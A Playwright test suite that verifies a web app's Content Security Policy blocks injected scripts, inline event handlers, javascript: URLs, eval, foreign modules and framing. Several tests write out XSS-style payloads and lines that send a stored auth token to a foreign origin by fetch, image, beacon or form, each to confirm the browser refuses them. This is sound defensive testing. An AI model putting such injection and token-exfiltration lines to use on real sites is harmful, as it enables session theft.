import type { Page } from "@playwright/test";
import { app, guestRoutes, memberRoutes, settingsRoutes, site } from "./support/routes.ts";
import { watchConsole, watchViolations } from "./support/policy.ts";
import { openDeletion, openUserMenu } from "./support/screens.ts";
import { expect, test } from "./support/test.ts";

test("a guest's pages violate no policy", async ({ page, context }) => {
  test.slow();
  const violations = await watchViolations(context);
  const consoleMessages = watchConsole(page);
  for (const path of guestRoutes) {
    const answer = await page.goto(path);
    expect(answer?.headers()["content-security-policy"], path).toContain("default-src 'none'");
    await expect(page.getByRole("heading", { level: 1 }), path).toBeVisible();
  }
  expect(violations).toEqual([]);
  expect(consoleMessages).toEqual([]);
});

test("a signed-in user's pages violate no policy", async ({ own, signedIn, submission }) => {
  test.slow();
  const violations = await watchViolations(signedIn);
  const consoleMessages = watchConsole(own);
  for (const path of ["/", ...memberRoutes(submission.endpoint_id, submission.id), ...settingsRoutes]) {
    await own.goto(path);
    await expect(own.getByRole("heading", { level: 1 }), path).toBeVisible();
  }
  expect(violations).toEqual([]);
  expect(consoleMessages).toEqual([]);
});

test("menus, dialogs, toasts and downloads violate no policy", async ({ own, signedIn, submission }) => {
  const violations = await watchViolations(signedIn);
  const consoleMessages = watchConsole(own);
  await own.goto(`/submissions/${submission.id}`);
  await openUserMenu(own);
  await own.keyboard.press("Escape");
  const download = own.waitForEvent("download");
  await own.getByRole("button", { name: /Download.*letter\.txt/ }).click();
  await download;
  await (await openDeletion(own)).getByRole("button", { name: "Delete" }).click();
  await expect(own.getByRole("region", { name: "Notifications" }).getByRole("listitem")).toBeVisible();
  expect(violations).toEqual([]);
  expect(consoleMessages).toEqual([]);
});

/** A content page, an article, a page of the app for guests and one for users. */
const attacked = ["/", "/blog/html-form-backend-setup-guide", "/forgot-password", "/dashboard"];

/** Does it to each of those pages; the browser must refuse by that directive, and nothing may have run. */
async function expectRefused(page: Page, directive: string, attack: (foreign: string) => unknown) {
  for (const path of attacked) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.evaluate(() => {
      const refused = new Promise<string>((resolve) => {
        addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
      });
      Object.assign(window, { refused });
    });
    await page.evaluate(attack, `${site}/contact`).catch(() => undefined);
    expect(await page.evaluate(() => Reflect.get(window, "refused")), path).toBe(directive);
    expect(await page.evaluate(() => Reflect.get(window, "ran")), path).toBeUndefined();
  }
}

test("an injected inline script is refused", ({ own }) =>
  expectRefused(own, "require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
  }));

/** Writes markup into two pages' own HTML; the browser must complain about it, by that directive. */
async function expectRefusedInHtml(page: Page, markup: string, directive: string) {
  await page.route(/\/(terms|dashboard)$/, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("<body>", `<body>${markup}`);
    expect(body).toContain(markup);
    await route.fulfill({ response, body });
  });
  for (const path of ["/terms", "/dashboard"]) {
    const complaint = page.waitForEvent("console", (message) => message.text().includes(directive));
    await page.goto(path);
    expect((await complaint).type()).toBe("error");
    expect(await page.evaluate(() => Reflect.get(window, "ran")), path).toBeUndefined();
  }
}

test("an inline script in the page's own HTML is refused", ({ own }) =>
  expectRefusedInHtml(own, "<script>window.ran = true</script>", "script-src"));

test("an event handler in the page's own HTML is refused", ({ own }) =>
  expectRefusedInHtml(own, '<img src="/favicon.svg" alt="" onload="window.ran = true">', "script-src"));

test("markup from a string is refused", ({ own }) =>
  expectRefused(own, "require-trusted-types-for", () => {
    document.body.innerHTML = "<img src=x onerror='window.ran = true'>";
  }));

test("an event handler from a string is refused", ({ own }) =>
  expectRefused(own, "require-trusted-types-for", () => {
    const image = document.createElement("img");
    image.setAttribute("onload", "window.ran = true");
    image.src = "/favicon.svg";
  }));

test("a javascript: URL is refused", ({ own }) =>
  expectRefused(own, "script-src-elem", () => {
    const link = document.createElement("a");
    link.href = "javascript:window.ran = true";
    document.body.append(link);
    link.click();
  }));

test("eval is refused", ({ own }) =>
  expectRefused(own, "require-trusted-types-for", () => {
    // Later, because what Playwright runs itself may use eval.
    setTimeout(() => globalThis.eval("window.ran = true"));
  }));

test("a foreign script is refused", ({ own }) =>
  expectRefused(own, "require-trusted-types-for", (foreign) => {
    const script = document.createElement("script");
    script.src = foreign;
    document.body.append(script);
  }));

test("a foreign module is refused", ({ own }) =>
  expectRefused(own, "script-src-elem", (foreign) => import(foreign)));

test("sending away by fetch is refused", ({ own }) =>
  expectRefused(own, "connect-src", (foreign) => fetch(`${foreign}?token=${localStorage.getItem("authToken")}`)));

test("sending away by image is refused", ({ own }) =>
  expectRefused(own, "img-src", (foreign) => {
    new Image().src = `${foreign}?token=${localStorage.getItem("authToken")}`;
  }));

test("sending away by beacon is refused", ({ own }) =>
  expectRefused(own, "connect-src", (foreign) => navigator.sendBeacon(foreign, "token")));

test("sending away by a form is refused", ({ own }) =>
  expectRefused(own, "form-action", (foreign) => {
    const form = document.createElement("form");
    form.action = foreign;
    document.body.append(form);
    form.submit();
  }));

test("our pages cannot be framed", async ({ page }) => {
  await page.goto(`${site}/contact`);
  const complaint = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
  await page.evaluate((address) => {
    const frame = document.createElement("iframe");
    frame.src = address;
    document.body.append(frame);
  }, `${app}/login`);
  await complaint;
});
